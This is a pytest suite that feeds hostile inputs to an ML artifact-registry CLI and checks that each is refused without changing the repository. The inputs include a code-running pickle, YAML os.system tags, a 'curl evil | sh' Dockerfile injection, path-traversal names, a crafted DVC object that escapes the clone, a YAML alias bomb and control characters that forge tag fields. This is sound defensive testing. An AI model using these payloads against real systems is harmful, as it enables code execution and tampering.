"""One table of bad and hostile inputs driven through the CLI: each is refused with exit 2 (or 1
where a hash is wrong) and a message naming the file or field and the fix, and the repository is
exactly as before."""

from __future__ import annotations

import json
import os
import re
import shutil
import stat
from collections.abc import Callable
from pathlib import Path

import pytest
import torch

from artreg.services.register import register_raw
from artreg.services.validate import promote_to_validated

from helpers import EXAMPLES, git, snapshot

PWNED = Path("/tmp/artreg-hostile-pwned")


class Evil:
    """A pickle that, loaded with full pickle power, would run a shell command."""

    def __reduce__(self):
        return (os.system, (f"touch {PWNED}",))


@pytest.fixture(scope="module")
def hostile_template(tmp_path_factory: pytest.TempPathFactory, _checkpoint_template: Path) -> Path:
    base = tmp_path_factory.mktemp("hostile")
    from artreg.services.init import init_registry

    # The identity for building the template only: set in os.environ, it would leak into
    # every later test of this worker (git's environment identity wins over its config).
    with pytest.MonkeyPatch.context() as env:
        for var, value in (("NAME", "t"), ("EMAIL", "t@example.com")):
            env.setenv(f"GIT_AUTHOR_{var}", value)
            env.setenv(f"GIT_COMMITTER_{var}", value)
        shutil.copytree(_checkpoint_template, base / "ckpt")
        evil = base / "evil"
        evil.mkdir()
        torch.save({"model_state_dict": Evil()}, evil / "best.pt")
        (evil / "garbage.pt").write_bytes(b"not a checkpoint at all")
        torch.save({"epoch": 3, "numbers": [1, 2, 3]}, evil / "nostate.pt")
        root = base / "registry"
        init_registry(root)
        register_raw(root, "encoder", "s1", base / "ckpt")
        register_raw(root, "evil", "e1", evil)
        promote_to_validated(root, "encoder", "s1", "best", EXAMPLES / "validation_results.json")
    return base


@pytest.fixture
def world(hostile_template: Path, tmp_path: Path) -> Path:
    work = tmp_path / "w"
    shutil.copytree(hostile_template, work, symlinks=True)
    return work


Case = Callable[[Path], list[str]]


def reg(name: str = "encoder", session: str = "s9", src: str = "ckpt", *extra: str) -> Case:
    return lambda w: [
        "register",
        "--from",
        str(w / src),
        *(e.format(w=w) for e in extra),
        "--",
        name,
        session,
    ]


def with_file(rel: str, make: Callable[[Path], None], then: Case) -> Case:
    def case(w: Path) -> list[str]:
        make(w / rel)
        return then(w)

    return case


def write(text: str | bytes) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(text, bytes):
            path.write_bytes(text)
        else:
            path.write_text(text)

    return make


def val(
    checkpoint: str = "epoch_2",
    results: str | None = None,
    name: str = "encoder",
    session: str = "s1",
    extra: tuple[str, ...] = (),
) -> Case:
    return lambda w: [
        "promote",
        name,
        session,
        "--to",
        "validated",
        "--checkpoint",
        checkpoint,
        "--results",
        results.format(w=w) if results else str(EXAMPLES / "validation_results.json"),
        *extra,
    ]


def prod(*extra: str, version: str = "1.0.0") -> Case:
    return lambda w: [
        "promote",
        "encoder",
        "s1_best_validated",
        "--to",
        "production",
        "--version",
        version,
        "--benchmarks",
        str(EXAMPLES),
        "--approved-by",
        "rm",
        *[e.format(w=w) for e in extra],
    ]


def symlink(target: Callable[[Path], Path]) -> Callable[[Path], None]:
    return lambda path: path.symlink_to(target(path))


def hardlink(path: Path) -> None:
    outside = path.parent.parent / "outside.bin"
    outside.write_bytes(b"secret")
    os.link(outside, path)


def nested_json(depth: int) -> str:
    return "[" * depth + "]" * depth


def big_string(path: Path) -> None:
    with path.open("w") as fh:
        fh.write('{"coverage": 0.97, "notes": "')
        chunk = "x" * (1 << 20)
        for _ in range(100):
            fh.write(chunk)
        fh.write('"}')


BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n" + "".join(
    f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
    for p, c in zip("bcdefgh", "cdefghi", strict=True)
)


def _params_with_default_name_5(w: Path) -> list[str]:
    params = w / "registry" / "params.yaml"
    params.write_text(re.sub(r"default_name: \S+", "default_name: 5", params.read_text()))
    git(w / "registry", "commit", "--quiet", "-am", "broken default")
    return reg()(w)


def _empty_folder(w: Path) -> list[str]:
    (w / "empty").mkdir()
    return reg(src="empty")(w)


# name: (what to run, exit code, texts the message must hold)
CASES: dict[str, tuple[Case, int, tuple[str, ...]]] = {
    # names
    "name ..": (reg(".."), 2, ("invalid artifact name",)),
    "name with slash": (reg("team/encoder"), 2, ("invalid artifact name", "fix:")),
    "name starting with dash": (reg("-encoder"), 2, ("invalid artifact name",)),
    "absolute path name": (reg("/etc/passwd"), 2, ("invalid artifact name",)),
    "name with bell": (reg("enc\x07oder"), 2, ("\\x07",)),
    # The one text rule for single-line fields refuses these before the name rule sees them.
    "name with newline": (reg("encoder\n"), 2, ("NAME: ", "control character")),
    "name with control character": (reg("enc\x1boder"), 2, ("NAME: ", "\\x1b")),
    "name with escape sequence": (reg("enc\x1b[31moder"), 2, ("\\x1b",)),
    "cyrillic look-alike": (reg("encоder"), 2, ("invalid artifact name", "\\u043e")),
    "ref-illegal tilde": (reg("enc~1"), 2, ("invalid artifact name",)),
    "ref-illegal caret": (reg("enc^"), 2, ("invalid artifact name",)),
    "ref-illegal colon": (reg("en:c"), 2, ("invalid artifact name",)),
    "ref-illegal glob": (reg("enc*"), 2, ("invalid artifact name",)),
    "ref-illegal bracket": (reg("enc[0]"), 2, ("invalid artifact name",)),
    "ref-illegal backslash": (reg("enc\\x"), 2, ("invalid artifact name",)),
    "name with space": (reg("my model"), 2, ("invalid artifact name",)),
    "name ending .lock": (reg("encoder.lock"), 2, ("invalid artifact name",)),
    "10,000 character name": (reg("e" * 10_000), 2, ("invalid artifact name", "at most 100")),
    "empty name": (reg(""), 2, ("invalid artifact name",)),
    # ids and versions
    "session id ../escape": (reg(session="../escape"), 2, ("invalid session id",)),
    "absolute session id": (reg(session="/etc"), 2, ("invalid session id",)),
    "session id with ..": (reg(session="s..1"), 2, ("no '..'",)),
    "hidden session id": (reg(session=".git"), 2, ("invalid session id",)),
    "10,000 character id": (reg(session="s" * 10_000), 2, ("at most 100",)),
    "session exists": (reg(session="s1"), 2, ("registered already", "new session id")),
    "validated id traversal": (val(extra=("--id", "../../x")), 2, ("invalid validated id",)),
    "checkpoint traversal": (
        val(checkpoint="../../../etc/passwd"),
        2,
        ("invalid checkpoint name",),
    ),
    "version not semver": (prod(version="1.0"), 2, ("invalid version",)),
    "version traversal": (prod(version="../1.0.0"), 2, ("invalid version",)),
    # the checkpoint folder and the files in it
    "missing folder": (reg(src="nowhere"), 2, ("nowhere", "not found")),
    "a model file instead of its folder": (
        reg(src="ckpt/best.pt"),
        2,
        ("best.pt: a file, not a checkpoint folder", "`artreg release encoder ", "--from "),
    ),
    "empty folder": (_empty_folder, 2, ("empty", "fix:")),
    "symlink out of the folder": (
        with_file("ckpt/leak.pt", symlink(lambda p: Path("/etc/hostname")), reg()),
        2,
        ("leak.pt", "outside the folder"),
    ),
    "hard link out of the folder": (with_file("ckpt/hard.pt", hardlink, reg()), 2, ("hard link",)),
    "fifo": (
        with_file("ckpt/fifo.pt", lambda p: os.mkfifo(p), reg()),
        2,
        ("fifo.pt", "not a regular file"),
    ),
    "character device": (
        with_file(
            "ckpt/null.pt", lambda p: os.mknod(p, stat.S_IFCHR | 0o600, os.makedev(1, 3)), reg()
        ),
        2,
        ("not a regular file",),
    ),
    "broken symlink": (
        with_file("ckpt/gone.pt", symlink(lambda p: p.parent / "nothing"), reg()),
        2,
        ("gone.pt", "cannot be read"),
    ),
    "symlink loop": (
        with_file("ckpt/loop.pt", symlink(lambda p: p), reg()),
        2,
        ("cannot be read",),
    ),
    # JSON
    "malformed metrics": (
        with_file(
            "m.json",
            write('{"coverage": 0.9,'),
            reg("encoder", "s9", "ckpt", "--metrics", "{w}/m.json"),
        ),
        2,
        ("m.json", "malformed JSON"),
    ),
    "duplicate keys in metrics": (
        with_file(
            "m.json",
            write('{"coverage": 0.9, "coverage": 0.1}'),
            reg("encoder", "s9", "ckpt", "--metrics", "{w}/m.json"),
        ),
        2,
        ("m.json", "duplicate key 'coverage'"),
    ),
    "NaN in metrics": (
        with_file(
            "m.json",
            write('{"coverage": NaN}'),
            reg("encoder", "s9", "ckpt", "--metrics", "{w}/m.json"),
        ),
        2,
        ("m.json", "NaN"),
    ),
    "duplicate keys in results": (
        with_file(
            "r.json", write('{"coverage": 0.99, "coverage": 0.1}'), val(results="{w}/r.json")
        ),
        2,
        ("duplicate key",),
    ),
    "NaN in results": (
        with_file("r.json", write('{"coverage": NaN}'), val(results="{w}/r.json")),
        2,
        ("NaN",),
    ),
    "Infinity": (
        with_file("r.json", write('{"coverage": Infinity}'), val(results="{w}/r.json")),
        2,
        ("Infinity",),
    ),
    "deep nesting": (
        with_file("r.json", write(nested_json(100_000)), val(results="{w}/r.json")),
        2,
        ("nested",),
    ),
    "100 MB string": (
        with_file("r.json", big_string, val(results="{w}/r.json")),
        2,
        ("byte limit",),
    ),
    "results not an object": (
        with_file("r.json", write("[1, 2]"), val(results="{w}/r.json")),
        2,
        ("must be a JSON object",),
    ),
    "results of the wrong type": (
        with_file("r.json", write('{"coverage": "all of it"}'), val(results="{w}/r.json")),
        2,
        ("/coverage",),
    ),
    "results from a device": (val(results="/dev/zero"), 2, ("not a regular file",)),
    # YAML
    "malformed config": (
        with_file(
            "c.yaml", write("lr: [0.1\n"), reg("encoder", "s9", "ckpt", "--config", "{w}/c.yaml")
        ),
        2,
        ("c.yaml", "malformed YAML"),
    ),
    "python tag in config": (
        with_file(
            "c.yaml",
            write("lr: !!python/object/apply:os.system ['true']\n"),
            reg("encoder", "s9", "ckpt", "--config", "{w}/c.yaml"),
        ),
        2,
        ("c.yaml", "malformed YAML"),
    ),
    "YAML alias bomb": (
        with_file("d.yaml", write(BOMB), prod("--deployment", "{w}/d.yaml")),
        2,
        ("aliases are not allowed",),
    ),
    "YAML python tag": (
        with_file(
            "d.yaml",
            write("port: !!python/object/apply:os.system ['touch /tmp/x']\n"),
            prod("--deployment", "{w}/d.yaml"),
        ),
        2,
        ("malformed YAML",),
    ),
    "YAML deep nesting": (
        with_file(
            "d.yaml", write("a: " + nested_json(100_000)), prod("--deployment", "{w}/d.yaml")
        ),
        2,
        ("nested",),
    ),
    "YAML duplicate keys": (
        with_file("d.yaml", write("port: 1\nport: 2\n"), prod("--deployment", "{w}/d.yaml")),
        2,
        ("duplicate key",),
    ),
    "Dockerfile injection": (
        with_file(
            "d.yaml",
            write('base_image: "python\\nRUN curl evil | sh"\n'),
            prod("--deployment", "{w}/d.yaml"),
        ),
        2,
        ("/base_image",),
    ),
    "schema violation in params.yaml": (
        _params_with_default_name_5,
        2,
        ("params.yaml", "/artreg/default_name"),
    ),
    # checkpoints
    "pickle asking for code": (
        val(name="evil", session="e1", checkpoint="best"),
        2,
        ("weights_only=True",),
    ),
    "not a checkpoint": (
        val(name="evil", session="e1", checkpoint="garbage"),
        2,
        ("checkpoints/garbage.pt: unknown content", "not safetensors, ONNX, GGUF or a PyTorch"),
    ),
    "checkpoint without weights": (
        val(name="evil", session="e1", checkpoint="nostate"),
        2,
        ("no model state dict",),
    ),
}


def _escape_pointer(w: Path) -> list[str]:
    pointer = w / "registry/artifacts/validated/encoder/s1_best_validated/model.pt.dvc"
    pointer.write_text(
        pointer.read_text().replace("path: model.pt", "path: ../../../../../etc/hostname")
    )
    return ["pull", "encoder", "--stage", "validated"]


CASES["pointer escaping the repo"] = (_escape_pointer, 2, ("leaves the folder of the pointer",))


@pytest.mark.parametrize("case", list(CASES))
def test_bad_input_is_refused_and_changes_nothing(world: Path, cli, case: str) -> None:
    make, code, messages = CASES[case]
    root = world / "registry"
    args = make(world)
    before = snapshot(root)
    tags_before = git(root, "tag", "--list")

    result = cli(*args, cwd=root)

    assert result.exit_code == code, (result.stdout, result.stderr)
    for message in messages:
        assert message in result.stderr, (message, result.stderr)
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    assert len(result.stderr) < 5000  # the message echoes no 10,000-character input
    if case != "pointer escaping the repo":  # that case edits a tracked file by design
        assert snapshot(root) == before
    assert git(root, "tag", "--list") == tags_before
    assert not PWNED.exists()


def test_the_corpus_has_at_least_forty_cases() -> None:
    assert len(CASES) >= 40


def test_a_crafted_dir_object_cannot_write_outside_the_repository(
    registry: Path, checkpoint_dir: Path, tmp_path: Path, cli
) -> None:
    """A promotion whose `.dir` listing (in the remote) says `../../x`: plain `dvc pull` writes
    outside the clone; `artreg pull` refuses before checking anything out."""
    import hashlib

    published = register_raw(registry, "encoder", "s1", checkpoint_dir)
    pointer = registry / published.folder / "checkpoints.dvc"
    real = json.loads(
        (
            registry
            / ".dvc/cache/files/md5"
            / pointer.read_text().split()[3][:2]
            / (pointer.read_text().split()[3][2:])
        ).read_text()
    )
    crafted = json.dumps(
        [{"md5": real[0]["md5"], "relpath": "../../../../../../escaped.txt"}], sort_keys=True
    ).encode()
    md5 = hashlib.md5(crafted).hexdigest()
    obj = registry / ".dvc/cache/files/md5" / md5[:2] / f"{md5[2:]}.dir"
    obj.parent.mkdir(parents=True, exist_ok=True)
    obj.write_bytes(crafted)
    # The attacker's version of the registration: same commit message, crafted pointer, same tag.
    text = pointer.read_text().split("\n")
    text[1] = f"- md5: {md5}.dir"
    pointer.write_text("\n".join(text))
    git(registry, "add", str(pointer))
    git(registry, "commit", "--quiet", "--amend", "--no-edit")
    git(
        registry,
        "tag",
        "-f",
        "-a",
        "-m",
        git(registry, "tag", "-l", "--format=%(contents)", "encoder#raw#1"),
        "encoder#raw#1",
        "HEAD",
    )
    from helpers import run_tool

    run_tool("dvc", "push", "--quiet", cwd=registry)

    plain = tmp_path / "plain" / "clone"
    plain.parent.mkdir()
    git(tmp_path, "clone", "--quiet", str(registry), str(plain))
    run_tool("dvc", "pull", "--quiet", cwd=plain, check=False)
    assert (tmp_path / "plain" / "escaped.txt").exists()  # the threat is real

    ours = tmp_path / "ours" / "clone"
    ours.parent.mkdir()
    git(tmp_path, "clone", "--quiet", str(registry), str(ours))
    result = cli("pull", "encoder", "--stage", "raw", cwd=ours)
    assert result.exit_code == 1, result.stderr
    assert "../../../../../../escaped.txt" in result.stderr
    assert "outside the artifact's folder" in result.stderr
    assert not (tmp_path / "ours" / "escaped.txt").exists()
    assert not (ours / published.folder / "checkpoints").exists()


@pytest.mark.parametrize(
    ("case", "field"),
    [
        ("a lone surrogate in a benchmarks key", "/\\ud800"),
        ("non-UTF-8 bytes in --approved-by", "--approved-by"),
        ("non-UTF-8 bytes in --notes", "--notes"),
    ],
)
def test_text_that_cannot_be_encoded_is_refused_naming_the_field(
    world: Path, case: str, field: str
) -> None:
    """Raw bytes on the command line (Python keeps what is not UTF-8 as lone surrogates) and a
    `\\ud800` escape in a JSON file: exit 2 naming the field, before anything is written."""
    import subprocess

    from helpers import ARTREG, RELEASE_ARGS

    root = world / "registry"
    bench = world / "bench.json"
    data = json.loads((EXAMPLES / "benchmarks.json").read_text())
    bench.write_text(json.dumps({**data, "\ud800": 1} if "benchmarks" in case else data))
    args = [
        *("promote", "encoder", "s1_best_validated", "--to", "production", "--version", "1.0.0"),
        *RELEASE_ARGS,
        *("--benchmarks", str(bench)),
    ]
    raw = [os.fsencode(a) for a in args]
    if "approved-by" in case:
        raw += [b"--approved-by", b"r\xffm"]
    if "notes" in case:
        raw += [b"--notes", b"first \xff\xfe release"]
    before = snapshot(root)

    result = subprocess.run(
        [os.fsencode(ARTREG), *raw], cwd=root, capture_output=True, text=True, check=False
    )

    assert result.returncode == 2, result.stderr
    assert f"artreg: error: {str(bench) + ': ' if 'benchmarks' in case else ''}{field}: " in (
        result.stderr
    )
    assert "not UTF-8" in result.stderr or "lone surrogate" in result.stderr
    assert snapshot(root) == before


def _promote_args(world: Path) -> list[str]:
    return [
        *("promote", "encoder", "s1_best_validated", "--to", "production", "--version", "1.0.0"),
        *("--benchmarks", str(EXAMPLES / "benchmarks.json")),
        *("--resources", str(EXAMPLES / "resource_usage.json")),
    ]


@pytest.mark.parametrize(
    ("source", "named", "fix"),
    [
        ("ARTREG_APPROVED_BY", "ARTREG_APPROVED_BY", "set ARTREG_APPROVED_BY to"),
        ("GIT_AUTHOR_NAME", "GIT_AUTHOR_NAME", "set GIT_AUTHOR_NAME to UTF-8 text"),
        ("git config user.name", "git config user.name", "git config user.name"),
    ],
)
def test_text_from_the_environment_or_gits_identity_that_is_not_utf8_is_bad_input(
    world: Path, source: str, named: str, fix: str
) -> None:
    """A name that is not UTF-8 where artreg reads it (an environment variable, git's identity)
    is the user's to fix: exit 2 naming the variable or git setting, never an internal error."""
    import subprocess

    from helpers import ARTREG

    root = world / "registry"
    env = {os.fsencode(k): os.fsencode(v) for k, v in os.environ.items()}
    env[b"ARTREG_APPROVED_BY"] = b"rm"
    if source == "git config user.name":
        git(root, "config", "user.name", os.fsdecode(b"al\xffice"))
    else:
        env[os.fsencode(source)] = b"al\xffice"
    before = snapshot(root)

    result = subprocess.run(
        [os.fsencode(ARTREG), *map(os.fsencode, _promote_args(world))],
        cwd=root, env=env, capture_output=True, text=True, check=False,
    )  # fmt: skip

    assert result.returncode == 2, result.stderr
    assert named in result.stderr and "al\\xffice" in result.stderr, result.stderr
    assert "not UTF-8" in result.stderr and fix in result.stderr
    assert "internal error" not in result.stderr
    assert snapshot(root) == before


FORGED = "alice\nby: Mallory <m@x>\nrequires: base@v9.9.9"


@pytest.mark.parametrize(
    ("case", "field"),
    [
        ("newline in --approved-by", "--approved-by"),
        ("ANSI escape in --approved-by", "--approved-by"),
        ("C1 control in --approved-by", "--approved-by"),
        ("newline in ARTREG_APPROVED_BY", "ARTREG_APPROVED_BY"),
        ("DEL in GIT_AUTHOR_NAME", "GIT_AUTHOR_NAME"),
        ("escape in --notes", "--notes"),
        ("carriage return in --notes", "--notes"),
        ("newline in --requires", "--requires"),
    ],
)
def test_control_characters_in_text_fields_are_refused_naming_the_field(
    world: Path, cli, monkeypatch: pytest.MonkeyPatch, case: str, field: str
) -> None:
    """Single-line fields refuse newlines and control characters (C0, ESC, DEL, C1): each lands
    in one line of the model card, CHANGELOG, tag message or PR summary, where a newline would
    forge `by:`/`requires:` lines. Notes may hold lines and tabs, nothing else."""
    root = world / "registry"
    args = _promote_args(world)
    value = {
        "newline": FORGED,
        "ANSI": "alice\x1b[2K\x1b[1Amallory",
        "C1": "alice\x9bmallory",
        "DEL": "ali\x7fce",
        "escape": "fixed\n\tthe\x1b[31m red thing",
        "carriage": "first\rforged line",
    }[case.split()[0]]
    if field == "--approved-by":
        args += ["--approved-by", value]
    elif field == "--notes":
        args += ["--approved-by", "rm", "--notes", value]
    elif field == "--requires":
        args += ["--approved-by", "rm", "--requires", "base@v1.0.0\nrequires: x@v9.9.9"]
    else:
        monkeypatch.setenv(field, value)
        if field != "ARTREG_APPROVED_BY":
            args += ["--approved-by", "rm"]
    before = snapshot(root)
    tags = git(root, "tag", "--list")

    result = cli(*args, cwd=root)

    assert result.exit_code == 2, result.stderr
    assert f"{field}" in result.stderr and "control character" in result.stderr, result.stderr
    assert "\x1b" not in result.stderr and "\x9b" not in result.stderr  # shown escaped
    assert snapshot(root) == before
    assert git(root, "tag", "--list") == tags


def test_python_entry_points_apply_the_same_text_rule(world: Path) -> None:
    from artreg import ArtifactRepository, InputError

    root = world / "registry"
    before = snapshot(root)
    repo = ArtifactRepository(root, name="encoder")
    inputs = {
        "benchmarks": EXAMPLES / "benchmarks.json",
        "resource_usage": EXAMPLES / "resource_usage.json",
    }
    with pytest.raises(InputError, match=r"approved_by.*control character"):
        repo.promote_to_production("s1_best_validated", "1.0.0", approved_by=FORGED, **inputs)
    with pytest.raises(InputError, match=r"notes.*control character"):
        repo.promote_to_production(
            "s1_best_validated", "1.0.0", approved_by="rm", notes="a\x00b", **inputs
        )
    assert snapshot(root) == before


def test_multi_line_notes_are_kept_and_forge_no_field(world: Path, cli) -> None:
    """Notes may span lines; the tag message and the model card's one-line fields stay as
    artreg wrote them."""
    from artreg.registry.tags import message_fields

    root = world / "registry"
    notes = "Better recall.\n\tby: Mallory <m@x>"
    result = cli(*_promote_args(world), "--approved-by", "rm", "--notes", notes, cwd=root)

    assert result.exit_code == 0, result.stderr
    message = git(root, "tag", "-l", "--format=%(contents)", "encoder@v1.0.0")
    assert "Mallory" not in message_fields(message).get("by", "")
    card = (root / "artifacts/production/encoder/v1.0.0/README.md").read_text()
    assert "Better recall." in card
    assert "- Approved by: rm\n" in card or "Approved by rm" in card
